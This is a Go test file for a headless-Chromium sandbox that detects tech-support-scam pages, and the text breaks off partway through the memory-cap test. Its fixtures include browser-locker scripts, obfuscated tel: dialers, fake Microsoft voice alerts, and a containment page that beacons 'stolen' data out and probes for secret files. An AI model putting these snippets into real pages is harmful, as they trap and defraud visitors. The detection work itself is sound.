package sandbox

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	"github.com/tssguard/tssguard/capture"
)

var testPool *Pool

func TestMain(m *testing.M) {
	if _, err := findChromium(""); err != nil {
		fmt.Println("sandbox tests skipped:", err)
		os.Exit(0)
	}
	p, err := New(context.Background(), Options{TabsPerBrowser: 2, PageTimeout: 20 * time.Second})
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	testPool = p
	code := m.Run()
	p.Close()
	os.Exit(code)
}

const observe = 700 * time.Millisecond

// load serves the given files (name -> content) from a temporary root and
// captures the first one.
func load(t *testing.T, files map[string]string, page string, o PageOptions) *capture.Capture {
	t.Helper()
	root := t.TempDir()
	for name, body := range files {
		p := filepath.Join(root, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if o.Observe == 0 {
		o.Observe = observe
	}
	c, err := testPool.Capture(context.Background(), Target{Root: root, File: page}, o)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func events(c *capture.Capture, kind capture.EventKind) []capture.Event {
	var out []capture.Event
	for _, e := range c.Runtime.Events {
		if e.Kind == kind {
			out = append(out, e)
		}
	}
	return out
}

func count(c *capture.Capture, kind capture.EventKind, gesture bool) int {
	n := 0
	for _, e := range events(c, kind) {
		if e.AfterGesture == gesture {
			n += e.Count
		}
	}
	return n
}

const num = "tel:+18445550142"

func TestCallSchemeVariants(t *testing.T) {
	t.Parallel()
	pages := map[string]string{
		"click":          `<a id=c href="` + num + `">x</a><script>document.getElementById('c').click()</script>`,
		"dispatchEvent":  `<a id=c href="` + num + `">x</a><script>document.getElementById('c').dispatchEvent(new MouseEvent('click',{bubbles:true}))</script>`,
		"location":       `<script>location = '` + num + `'</script>`,
		"location.href":  `<script>window.addEventListener('load', function(){ location.href = '` + num + `' })</script>`,
		"assign":         `<script>setTimeout(function(){ location.assign('` + num + `') }, 100)</script>`,
		"replace":        `<script>location.replace('` + num + `')</script>`,
		"window.open":    `<script>window.open('` + num + `')</script>`,
		"meta refresh":   `<meta http-equiv="refresh" content="0;url=` + num + `">`,
		"iframe":         `<iframe src="` + num + `" style="display:none"></iframe>`,
		"iframe script":  `<body><script>var f=document.createElement('iframe'); f.src='` + num + `'; document.body.appendChild(f)</script></body>`,
		"form submit":    `<form action="` + num + `"></form><script>document.forms[0].submit()</script>`,
		"callto":         `<script>location.href = 'callto:+18445550142'</script>`,
		"skype":          `<a id=s href="skype:+18445550142?call"></a><script>document.getElementById('s').click()</script>`,
		"obfuscated":     `<script>eval(atob('bG9jYXRpb24uaHJlZj0idGVsOisxODQ0NTU1MDE0MiI='))</script>`,
		"fromCharCode":   `<script>location.href=String.fromCharCode(116,101,108,58,43,49,56,52,52,53,53,53,48,49,52,50)</script>`,
		"cross-origin":   `<iframe src="https://frame.tssguard.test/inner.html"></iframe>`,
		"written anchor": `<script>document.write('<a id=w href="` + num + `">x</a>'); document.getElementById('w').click()</script>`,
	}
	for name, html := range pages {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			files := map[string]string{"index.html": html, "inner.html": `<script>top.location.href = '` + num + `'</script><a id=c href="` + num + `"></a><script>document.getElementById('c').click()</script>`}
			c := load(t, files, "index.html", PageOptions{})
			ev := events(c, capture.EventCallNavigation)
			if len(ev) == 0 {
				t.Fatalf("no call-scheme navigation; events %+v", c.Runtime.Events)
			}
			if ev[0].AfterGesture || !strings.Contains(strings.ToLower(ev[0].Detail), "18445550142") {
				t.Errorf("event %+v", ev[0])
			}
		})
	}
}

func TestLockers(t *testing.T) {
	t.Parallel()
	t.Run("dialog loop", func(t *testing.T) {
		t.Parallel()
		c := load(t, map[string]string{"p.html": `<script>while(true){ alert('Your computer is blocked') }</script>`}, "p.html", PageOptions{})
		if n := count(c, capture.EventDialog, false); n < 3 {
			t.Errorf("dialogs = %d, want a storm", n)
		}
		if !c.Runtime.Interrupted {
			t.Error("not interrupted")
		}
	})
	t.Run("busy loop", func(t *testing.T) {
		t.Parallel()
		start := time.Now()
		c := load(t, map[string]string{"p.html": `<p>hi</p><script>while(true){}</script>`}, "p.html", PageOptions{})
		if !c.Runtime.Interrupted {
			t.Error("busy loop not interrupted")
		}
		t.Logf("busy loop page took %v", time.Since(start))
	})
	t.Run("beforeunload history print popups", func(t *testing.T) {
		t.Parallel()
		c := load(t, map[string]string{"p.html": `<script>
window.onbeforeunload = function(){ return 'stay' };
addEventListener('beforeunload', function(e){ e.returnValue = 'x' });
for (var i = 0; i < 20; i++) history.pushState({}, '', '#' + i);
setTimeout(function(){ window.print(); window.print(); }, 10);
for (var j = 0; j < 5; j++) window.open('https://site.tssguard.test/p.html?' + j);
</script>`}, "p.html", PageOptions{})
		if count(c, capture.EventBeforeUnload, false) < 2 {
			t.Errorf("beforeunload: %+v", events(c, capture.EventBeforeUnload))
		}
		if n := count(c, capture.EventHistory, false); n < 20 {
			t.Errorf("history = %d", n)
		}
		if n := count(c, capture.EventPrint, false); n < 2 {
			t.Errorf("print = %d", n)
		}
		if n := count(c, capture.EventPopup, false); n < 1 {
			t.Errorf("popups = %d (the popup blocker may stop some, but the attempt is seen)", n)
		}
	})
	t.Run("worker flood", func(t *testing.T) {
		t.Parallel()
		// Each worker only waits: the test machine's cores stay free.
		c := load(t, map[string]string{"p.html": `<script>var u = URL.createObjectURL(new Blob(['setTimeout(function(){}, 60000)'], {type: 'application/javascript'}));
var n = 0; try { for (var i = 0; i < 1e9; i++) { new Worker(u); n++; } } catch (e) {} document.title = 'started ' + n;</script>`}, "p.html", PageOptions{})
		if n := count(c, capture.EventWorker, false); n != 64 {
			t.Errorf("workers = %d, want 64 reported, then refused", n)
		}
	})
	t.Run("broken string methods", func(t *testing.T) {
		t.Parallel()
		// Reporting used the page's own String.prototype.slice: a page
		// that broke it first had every behaviour go unreported.
		c := load(t, map[string]string{"p.html": `<script>
String.prototype.slice = String.prototype.toLowerCase = String.prototype.trim = function () { throw new Error('no'); };
Set.prototype.has = Set.prototype.add = function () { throw new Error('no'); };
window.String = function () { throw new Error('no'); };
for (var i = 0; i < 20; i++) history.pushState({}, '', '#' + i);
addEventListener('beforeunload', function (e) { e.returnValue = 'x'; });
window.print(); window.print();
</script>`}, "p.html", PageOptions{})
		if n := count(c, capture.EventHistory, false); n < 20 {
			t.Errorf("history = %d", n)
		}
		if count(c, capture.EventBeforeUnload, false) < 1 || count(c, capture.EventPrint, false) < 2 {
			t.Errorf("beforeunload %d, print %d", count(c, capture.EventBeforeUnload, false), count(c, capture.EventPrint, false))
		}
	})
	t.Run("a flood keeps the call", func(t *testing.T) {
		t.Parallel()
		// 600 distinct downloads filled the event list (512): the call
		// after them went unrecorded.
		c := load(t, map[string]string{"p.html": `<script>for (var i = 0; i < 600; i++) { var a = document.createElement('a'); a.href = 'data:text/plain,x' + i; a.download = 'v.txt'; a.click(); }
location.href = 'tel:+18445550142';</script>`}, "p.html", PageOptions{})
		if n := count(c, capture.EventCallNavigation, false); n < 1 {
			t.Errorf("calls = %d after a flood of %d downloads", n, count(c, capture.EventDownload, false))
		}
	})
	t.Run("download", func(t *testing.T) {
		t.Parallel()
		c := load(t, map[string]string{"p.html": `<script>for (var i=0;i<3;i++){ var a=document.createElement('a'); a.href='data:text/plain,x'+i; a.download='v'+i+'.txt'; a.click(); }</script>`}, "p.html", PageOptions{})
		if n := count(c, capture.EventDownload, false); n < 3 {
			t.Errorf("downloads = %d", n)
		}
	})
}

func TestMedia(t *testing.T) {
	t.Parallel()
	c := load(t, map[string]string{"p.html": `<audio autoplay src="a.wav"></audio>
<script>speechSynthesis.speak(new SpeechSynthesisUtterance('Critical alert from Microsoft'))</script>`, "a.wav": wav()}, "p.html", PageOptions{})
	sp := events(c, capture.EventSpeech)
	if len(sp) == 0 || !strings.Contains(sp[0].Detail, "Critical alert") {
		t.Errorf("speech: %+v", sp)
	}
	if len(events(c, capture.EventAudio)) == 0 {
		t.Errorf("no audio event: %+v", c.Runtime.Events)
	}
}

// wav is a tiny valid WAV file (silence).
func wav() string {
	data := make([]byte, 800)
	h := []byte("RIFF")
	le := func(v uint32) []byte { return []byte{byte(v), byte(v >> 8), byte(v >> 16), byte(v >> 24)} }
	h = append(h, le(uint32(36+len(data)))...)
	h = append(h, "WAVEfmt "...)
	h = append(h, le(16)...)
	h = append(h, 1, 0, 1, 0)
	h = append(h, le(8000)...)
	h = append(h, le(8000)...)
	h = append(h, 1, 0, 8, 0)
	h = append(h, "data"...)
	h = append(h, le(uint32(len(data)))...)
	for i := range data {
		data[i] = 128
	}
	return string(append(h, data...))
}

func TestClickThenLock(t *testing.T) {
	t.Parallel()
	page := `<p style="height:100vh">Click to play the video</p><script>
document.addEventListener('click', function(){
  document.documentElement.requestFullscreen();
  navigator.keyboard.lock();
  document.body.requestPointerLock();
  location.href = '` + num + `';
});</script>`
	files := map[string]string{"p.html": page}
	quiet := load(t, files, "p.html", PageOptions{})
	if n := len(quiet.Runtime.Events); n != 0 {
		t.Errorf("without a click: %d events %+v", n, quiet.Runtime.Events)
	}
	c := load(t, files, "p.html", PageOptions{Click: true})
	for _, k := range []capture.EventKind{capture.EventFullscreen, capture.EventKeyboardLock, capture.EventPointerLock, capture.EventCallNavigation} {
		if count(c, k, true) == 0 {
			t.Errorf("%s after the click: missing; events %+v", k, c.Runtime.Events)
		}
		if count(c, k, false) != 0 {
			t.Errorf("%s before the click", k)
		}
	}
	if !c.Runtime.Clicked {
		t.Error("Clicked not set")
	}
}

// The visitor's mouse leaves the page through its top edge before the
// click: a kit that dials on exit intent does it then, with no gesture.
func TestExitIntent(t *testing.T) {
	t.Parallel()
	page := `<body><script>
document.addEventListener('mouseleave', function(){ location.href = '` + num + `'; });
</script></body>`
	files := map[string]string{"p.html": page}
	if c := load(t, files, "p.html", PageOptions{}); len(c.Runtime.Events) != 0 {
		t.Errorf("without the visitor: %+v", c.Runtime.Events)
	}
	c := load(t, files, "p.html", PageOptions{Click: true})
	if count(c, capture.EventCallNavigation, false) == 0 || count(c, capture.EventCallNavigation, true) != 0 {
		t.Errorf("want the call before the click; events %+v", c.Runtime.Events)
	}
}

// The visitor clicks the page where there is nothing to click: a call
// button at the centre of a legitimate page is not pressed (the visitor
// did not choose to call), while a kit's invisible link over the whole
// page, with no plain point left, is clicked as before.
func TestClickWhereNothingIs(t *testing.T) {
	t.Parallel()
	button := `<body style="margin:0"><a href="` + num + `" style="position:absolute;left:35%;top:40%;width:30%;height:20%;display:block">Call us</a></body>`
	if c := load(t, map[string]string{"p.html": button}, "p.html", PageOptions{Click: true}); count(c, capture.EventCallNavigation, true) != 0 {
		t.Errorf("the page's own call button was pressed: %+v", c.Runtime.Events)
	}
	cover := `<body style="margin:0"><a href="` + num + `" style="position:fixed;left:0;top:0;width:100%;height:100%;display:block"></a><h1>Your PC is locked</h1></body>`
	if c := load(t, map[string]string{"p.html": cover}, "p.html", PageOptions{Click: true}); count(c, capture.EventCallNavigation, true) == 0 {
		t.Errorf("a full-page call link was not clicked: %+v", c.Runtime.Events)
	}
}

func TestHardNegatives(t *testing.T) {
	t.Parallel()
	// A call button and a game's full screen act only on their own click.
	page := `<button id="call" style="position:absolute;top:0;left:0">Call</button>
<button id="play" style="position:absolute;top:0;left:80px">Play</button>
<script>
document.getElementById('call').addEventListener('click', function(){ location.href = '` + num + `'; });
document.getElementById('play').addEventListener('click', function(){ document.documentElement.requestFullscreen(); navigator.keyboard.lock(); });
</script>`
	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Click: true})
	if n := len(c.Runtime.Events); n != 0 {
		t.Errorf("events on a page whose actions need their own buttons: %+v", c.Runtime.Events)
	}
}

func TestProfiles(t *testing.T) {
	t.Parallel()
	page := `<meta name="viewport" content="width=device-width"><body><script>document.body.innerText = [navigator.userAgent, navigator.maxTouchPoints, innerWidth, navigator.platform].join('|')</script></body>`
	for _, pr := range []string{"windows", "mac", "android", "iphone"} {
		t.Run(pr, func(t *testing.T) {
			t.Parallel()
			c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Profile: pr})
			want := profiles[pr]
			ua, _ := capture.UserAgentFor(pr)
			parts := strings.Split(c.Runtime.VisibleText, "|")
			if len(parts) != 4 {
				t.Fatalf("visible text %q", c.Runtime.VisibleText)
			}
			if parts[0] != ua {
				t.Errorf("userAgent %q, want %q", parts[0], ua)
			}
			if (parts[1] != "0") != want.touch {
				t.Errorf("maxTouchPoints %s for %s", parts[1], pr)
			}
			if parts[2] != fmt.Sprint(want.width) {
				t.Errorf("innerWidth %s, want %d", parts[2], want.width)
			}
			if parts[3] != want.platform {
				t.Errorf("platform %s, want %s", parts[3], want.platform)
			}
		})
	}
}

// TestContainment: a page tries every way out to a non-allowed address; a
// listener there must see no connection, and the report lists each attempt.
func TestContainment(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var hits atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			hits.Add(1)
			c.Close()
		}
	}()
	out := "127.0.0.1:" + fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
	page := `<script>
try { new WebSocket('ws://` + out + `/ws'); } catch (e) {}
fetch('http://` + out + `/fetch').catch(function(){});
var i = new Image(); i.src = 'http://` + out + `/img.png'; document.body && document.body.appendChild(i);
navigator.sendBeacon('http://` + out + `/beacon', 'stolen');
fetch('https://elsewhere.example/secure').catch(function(){});
</script><iframe src="http://` + out + `/frame"></iframe><img src="http://` + out + `/tag.png">`
	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Observe: 1500 * time.Millisecond})
	if n := hits.Load(); n != 0 {
		t.Fatalf("%d connections reached the non-allowed address", n)
	}
	for _, path := range []string{"/ws", "/fetch", "/img.png", "/beacon", "/frame", "/tag.png"} {
		found := false
		for _, r := range c.Runtime.Requests {
			if strings.Contains(r.URL, out+path) {
				found = true
				if !r.Blocked {
					t.Errorf("%s listed but not blocked: %+v", path, r)
				}
			}
		}
		if !found {
			t.Errorf("attempt to %s not listed; requests %+v", path, c.Runtime.Requests)
		}
	}
	// https to another host: the tunnel opens, the request in it is refused.
	secure := false
	for _, r := range c.Runtime.Requests {
		secure = secure || (r.URL == "https://elsewhere.example/secure" && r.Blocked && strings.Contains(r.Reason, "not allowed"))
	}
	if !secure {
		t.Errorf("https request to another host not listed as refused: %+v", c.Runtime.Requests)
	}
}

func TestNoExternalHandler(t *testing.T) {
	b := testPool.all[0]
	b.mu.Lock()
	ctx := b.ctx
	b.mu.Unlock()
	if ctx == nil {
		load(t, map[string]string{"p.html": "<p>x"}, "p.html", PageOptions{})
		b.mu.Lock()
		ctx = b.ctx
		b.mu.Unlock()
	}
	proc := chromedp.FromContext(ctx).Browser.Process()
	if proc == nil {
		t.Skip("no browser process handle")
	}
	env, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", proc.Pid))
	if err != nil {
		t.Skip(err)
	}
	for _, kv := range strings.Split(string(env), "\x00") {
		if path, ok := strings.CutPrefix(kv, "PATH="); ok {
			for _, dir := range filepath.SplitList(path) {
				for _, tool := range []string{"xdg-open", "xdg-settings", "gio", "kde-open"} {
					if _, err := os.Stat(filepath.Join(dir, tool)); err == nil {
						t.Errorf("%s is reachable on the browser's PATH (%s)", tool, dir)
					}
				}
			}
			return
		}
	}
	t.Error("browser has no PATH")
}

func TestCrashAndRecovery(t *testing.T) {
	c := load(t, map[string]string{"p.html": `<script>var a=[]; while(true){ a.push(new Array(1e6).fill(Math.random())); }</script>`}, "p.html", PageOptions{})
	if !c.Runtime.Crashed && !c.Runtime.Interrupted {
		t.Errorf("runaway allocation neither crashed nor was interrupted: %+v", c.Notes)
	}
	ok := load(t, map[string]string{"p.html": `<a id=c href="` + num + `"></a><script>document.getElementById('c').click()</script>`}, "p.html", PageOptions{})
	if len(events(ok, capture.EventCallNavigation)) == 0 {
		t.Errorf("pool unhealthy after a crash: %+v %v", ok.Runtime.Events, ok.Notes)
	}
}

// A page loaded with PageOptions.Referrer sees that Referer, as a cloaking
// kit checks before it shows its alert. (The test server is http: a browser
// sends no Referer from an https page to an http one.)
func TestReferrerReachesThePage(t *testing.T) {
	got := make(chan string, 4)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/" {
			got <- r.Referer()
		}
		fmt.Fprint(w, `<p>hello</p>`)
	}))
	defer srv.Close()
	lab := capture.DefaultPolicy()
	lab.AllowPrivate = true
	p, err := New(context.Background(), Options{Policy: lab})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	if _, err := p.Capture(context.Background(), Target{URL: srv.URL + "/"}, PageOptions{Observe: observe, Referrer: "http://search.example/results?q=x"}); err != nil {
		t.Fatal(err)
	}
	select {
	case ref := <-got:
		if !strings.HasPrefix(ref, "http://search.example/") { // the origin: browsers send no more across sites
			t.Errorf("the page saw Referer %q", ref)
		}
	default:
		t.Error("the page was not requested")
	}
}

func TestURLTargets(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/start":
			http.Redirect(w, r, "/page?phone=18445550142", http.StatusFound)
		default:
			fmt.Fprint(w, `<p>Your computer is blocked</p><script>location.href='tel:'+new URLSearchParams(location.search).get('phone')</script>`)
		}
	}))
	defer srv.Close()
	lab := capture.DefaultPolicy()
	lab.AllowPrivate = true
	p, err := New(context.Background(), Options{Policy: lab})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	c, err := p.Capture(context.Background(), Target{URL: srv.URL + "/start"}, PageOptions{Observe: observe})
	if err != nil {
		t.Fatal(err)
	}
	if ev := events(c, capture.EventCallNavigation); len(ev) == 0 || ev[0].Detail != "tel:18445550142" {
		t.Errorf("call navigation: %+v", c.Runtime.Events)
	}
	if !strings.HasSuffix(c.FinalURL, "/page?phone=18445550142") || len(c.Redirects) != 2 {
		t.Errorf("final %s redirects %v", c.FinalURL, c.Redirects)
	}
	// The default policy refuses loopback: nothing loads.
	c, err = testPool.Capture(context.Background(), Target{URL: srv.URL + "/page?phone=1"}, PageOptions{Observe: observe})
	if err != nil {
		t.Fatal(err)
	}
	if len(events(c, capture.EventCallNavigation)) != 0 {
		t.Error("a loopback URL loaded under the default policy")
	}
	blocked := false
	for _, r := range c.Runtime.Requests {
		blocked = blocked || (r.Blocked && strings.Contains(r.Reason, "not allowed"))
	}
	if !blocked {
		t.Errorf("requests %+v, want the page refused by policy", c.Runtime.Requests)
	}
}

func TestNoChromium(t *testing.T) {
	_, err := New(context.Background(), Options{ChromiumPath: "/nonexistent/chromium"})
	if !errors.Is(err, ErrNoChromium) || !strings.Contains(err.Error(), "apt-get install -y chromium") {
		t.Errorf("err = %v", err)
	}
}

// labPool is a pool whose URL targets may reach loopback, with the names
// in hosts ("name:port" -> loopback address) mapped by the proxy's dialer.
func labPool(t *testing.T, hosts map[string]string) *Pool {
	t.Helper()
	lab := capture.DefaultPolicy()
	lab.AllowPrivate = true
	lab.MapAddr = func(hp string) (string, bool) {
		if to, ok := hosts[hp]; ok {
			return to, true
		}
		return "127.0.0.1:1", true // nothing else, and no DNS query leaves the machine
	}
	p, err := New(context.Background(), Options{Policy: lab, TabsPerBrowser: 1})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	return p
}

// TestHTTPNotUpgraded: an http:// page on a public-looking host loads over
// http. Chromium would upgrade the navigation to https (HTTPS-Upgrades),
// which the page's server does not speak, and the scan would see nothing.
func TestHTTPNotUpgraded(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, `<p>Your computer is blocked</p><script>location.href='tel:+18445550142'</script>`)
	}))
	defer srv.Close()
	p := labPool(t, map[string]string{"support-alert.example.com:80": srv.Listener.Addr().String()})
	c, err := p.Capture(context.Background(), Target{URL: "http://support-alert.example.com/"}, PageOptions{Observe: observe})
	if err != nil {
		t.Fatal(err)
	}
	if ev := events(c, capture.EventCallNavigation); len(ev) == 0 || hits.Load() == 0 {
		t.Errorf("http page not loaded (server hits %d): final %s, requests %+v, notes %v", hits.Load(), c.FinalURL, c.Runtime.Requests, c.Notes)
	}
	if !strings.HasPrefix(c.FinalURL, "http://") {
		t.Errorf("final URL %s, want the page's http:// URL", c.FinalURL)
	}
}

// TestLocalSymlinkOutside: a symbolic link in the served folder that points
// outside it is not followed; links inside the folder still work.
func TestLocalSymlinkOutside(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret.txt"), []byte("TOPSECRET-OUTSIDE"), 0o644); err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	page := `<body><pre id=out></pre><script>
function get(u){ return fetch(u).then(function(r){ return r.text() }).catch(function(){ return 'ERR' }) }
Promise.all([get('/secret.txt'), get('/dir/secret.txt'), get('/inside.txt'), get('/sub/'), get('/missing.txt')]).then(function(v){ document.getElementById('out').textContent = v.join('|') })
</script></body>`
	if err := os.WriteFile(filepath.Join(outside, "stored.txt"), []byte("ALIAS-OK"), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, body := range map[string]string{"p.html": page, "real.txt": "INSIDE-OK", "sub/index.html": "INDEX-OK"} {
		os.MkdirAll(filepath.Dir(filepath.Join(root, name)), 0o755)
		if err := os.WriteFile(filepath.Join(root, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{"secret.txt": filepath.Join(outside, "secret.txt"), "dir": outside, "inside.txt": "real.txt"} {
		if err := os.Symlink(to, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
	}
	// The program's own layout (Alias) may still point outside the root.
	alias := func(p string) (string, bool) {
		if filepath.Base(p) == "missing.txt" {
			return filepath.Join(outside, "stored.txt"), true
		}
		return "", false
	}
	c, err := testPool.Capture(context.Background(), Target{Root: root, File: "p.html", Alias: alias}, PageOptions{Observe: observe})
	if err != nil {
		t.Fatal(err)
	}
	dom := ""
	for _, d := range c.Documents {
		dom += string(d.Body)
	}
	if strings.Contains(dom, "TOPSECRET") {
		t.Errorf("a file outside the root was served through a symbolic link: %s", dom)
	}
	for _, want := range []string{"INSIDE-OK", "INDEX-OK", "ALIAS-OK"} {
		if !strings.Contains(dom, want) {
			t.Errorf("%s missing: a link inside the root, a folder's index or an alias was not served: %s", want, dom)
		}
	}
	for _, r := range c.Runtime.Requests {
		if strings.Contains(r.URL, "secret.txt") && r.Status == http.StatusOK {
			t.Errorf("%s answered %d", r.URL, r.Status)
		}
	}
}

// TestOnlyPageTraffic: the proxy sees no request that the page did not
// cause. Chromium's own background traffic (component updates, time sync,
// safe browsing, optimization hints, search prefetch) must neither be
// fetched under the policy nor be listed as the page's.
func TestOnlyPageTraffic(t *testing.T) {
	var workerHit, backgroundHit atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/s.js":
			fmt.Fprint(w, "document.title = 'x'")
		case "/f.html":
			fmt.Fprint(w, "<p>frame")
		case "/background":
			backgroundHit.Add(1)
		case "/w.js":
			fmt.Fprint(w, "fetch('/from-worker.txt')")
		case "/from-worker.txt":
			workerHit.Add(1)
			fmt.Fprint(w, "ok")
		default:
			fmt.Fprint(w, `<title>Alert</title><p>Call +1-844-555-0142</p><script src="/s.js"></script><img src="/i.png"><iframe src="/f.html"></iframe><script>new Worker('/w.js')</script>`)
		}
	}))
	defer srv.Close()
	host := "support-alert.example.com"
	p := labPool(t, map[string]string{host + ":80": srv.Listener.Addr().String()})
	// Chromium's own traffic in the page's browser context, which the
	// flags do not stop everywhere, is played by a second tab of that
	// context that the page did not open.
	p.pageSetUp = func(ctx context.Context) {
		c := chromedp.FromContext(ctx)
		if _, err := chromedp.CallBrowser(ctx, target.CreateTarget, target.CreateTargetParams{URL: "http://" + host + "/background?update=1", BrowserContextID: c.BrowserContextID}); err != nil {
			t.Errorf("second tab: %v", err)
		}
	}
	for i := 0; i < 2; i++ {
		c, err := p.Capture(context.Background(), Target{URL: "http://" + host + "/"}, PageOptions{Observe: 3 * time.Second, Click: true})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range c.Runtime.Requests {
			if u, err := url.Parse(r.URL); err != nil || u.Hostname() != host {
				t.Errorf("page %d: a request the page did not cause: %+v", i, r)
			}
		}
		if !strings.Contains(strings.Join(c.Notes, "\n"), "did not cause") {
			t.Errorf("page %d: the second tab's request was not noted as refused: %v", i, c.Notes)
		}
		for _, r := range c.Runtime.Requests {
			if strings.Contains(r.URL, "/background") || r.Blocked {
				t.Errorf("page %d: listed as the page's: %+v", i, r)
			}
		}
	}
	if n := backgroundHit.Load(); n != 0 {
		t.Errorf("the proxy fetched %d requests the page did not cause", n)
	}
	if workerHit.Load() != 2 {
		t.Errorf("the page's worker reached its server %d times, want 2", workerHit.Load())
	}
}

// TestProxyRefusesBrowserTraffic: the proxy serves only requests tagged as
// coming from the page's tab; anything else reaching it (Chromium's own
// traffic in the page's browser context) is refused, logged apart, and
// never fetched.
func TestProxyRefusesBrowserTraffic(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if v := r.Header.Get(tagHeader); v != "" {
			t.Errorf("%s upstream %q, want the tag removed", tagHeader, v)
		}
		fmt.Fprint(w, "<p>ok")
	}))
	defer srv.Close()
	lab := capture.DefaultPolicy()
	lab.AllowPrivate = true
	px, err := newProxy(Target{URL: srv.URL}, lab, testPool.cert)
	if err != nil {
		t.Fatal(err)
	}
	defer px.close()
	proxyURL, _ := url.Parse("http://" + px.addr())
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL)}}
	get := func(tag string) int {
		req, _ := http.NewRequest("GET", srv.URL+"/update?x=1", nil)
		if tag != "" {
			req.Header.Set(tagHeader, tagPrefix+tag)
		}
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := get(""); code != http.StatusForbidden || hits.Load() != 0 {
		t.Errorf("untagged request: status %d, %d reached the server", code, hits.Load())
	}
	if code := get("wrong"); code != http.StatusForbidden || hits.Load() != 0 {
		t.Errorf("wrongly tagged request: status %d, %d reached the server", code, hits.Load())
	}
	if code := get(px.token); code != http.StatusOK || hits.Load() != 1 {
		t.Errorf("the page's request: status %d, %d reached the server", code, hits.Load())
	}
	// A worker of the page names the page as Referer; the browser's own
	// traffic does not.
	req, _ := http.NewRequest("GET", srv.URL+"/from-worker", nil)
	req.Header.Set("Referer", srv.URL+"/worker.js")
	if resp, err := client.Do(req); err != nil || resp.StatusCode != http.StatusOK {
		t.Errorf("worker request: %v %v", err, resp)
	} else {
		resp.Body.Close()
	}
	req, _ = http.NewRequest("GET", srv.URL+"/x", nil)
	req.Header.Set("Referer", "https://elsewhere.example/")
	if resp, err := client.Do(req); err != nil || resp.StatusCode != http.StatusForbidden {
		t.Errorf("request with a foreign Referer: %v %v", err, resp)
	} else {
		resp.Body.Close()
	}
	if reqs, bg := px.requests(), px.refusedBackground(); len(bg) != 3 || len(reqs) != 2 || hits.Load() != 2 {
		t.Errorf("page log %+v, background log %+v, %d reached the server", reqs, bg, hits.Load())
	}
}

// TestMemoryCap: a page that allocates huge canvases in a loop is killed at
// the renderer memory cap, the report says so, the browser's memory stays
// bounded, and the pool goes on scanning.
func TestMemoryCap(t *testing.T) {
	p, err := New(context.Background(), Options{TabsPerBrowser: 1, RendererMemoryMB: 400, PageTimeout: 20 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	root := t.TempDir()
	os.WriteFile(filepath.Join(root, "hog.html"), []byte(`<p>Your PC is frozen</p><script>
var keep = [];
function grow() {
  for (var i = 0; i < 4; i++) {
    var c = document.createElement('canvas'); c.width = 4096; c.height = 4096;
    var g = c.getContext('2d'); g.fillStyle = 'rgb(' + (keep.length % 255) + ',0,0)'; g.fillRect(0, 0, 4096, 4096);
    keep.push(c);
  }
  setTimeout(grow, 0);
}
grow();
</script>`), 0o644)
	os.WriteFile(filepath.Join(root, "ok.html"), []byte(`<a id=c href="`+num+`"></a><script>document.getElementById('c').click()</script>`), 0o644)

	var peak atomic.Int64
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			case <-time.After(100 * time.Millisecond):
			}
			if b := p.all[0]; b != nil {
				b.mu.Lock()
				ctx := b.ctx
				b.mu.Unlock()
				if ctx != nil {
					if proc := chromedp.FromContext(ctx).Browser.Process(); proc != nil {
						if rss := treeRSS(proc.Pid); rss > peak.Load() {
							peak.Store(rss)
						}
					}
				}
			}
		}
	}()
	start := time.Now()
	c, err := p.Capture(context.Background(), Target{Root: root, File: "hog.html"}, PageOptions{Observe: 8 * time.Second})
	close(stop)
	<-done
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("hog page: %v, browser tree peak %d MB, notes %v", time.Since(start).Round(time.Millisecond), peak.Load()>>20, c.Notes)
	if !c.Runtime.MemoryCapped || len(events(c, capture.EventMemoryCap)) != 1 || !c.Runtime.Crashed {
		t.Errorf("memory capped %v, crashed %v, events %+v", c.Runtime.MemoryCapped, c.Runtime.Crashed, c.Runtime.Events)
	}
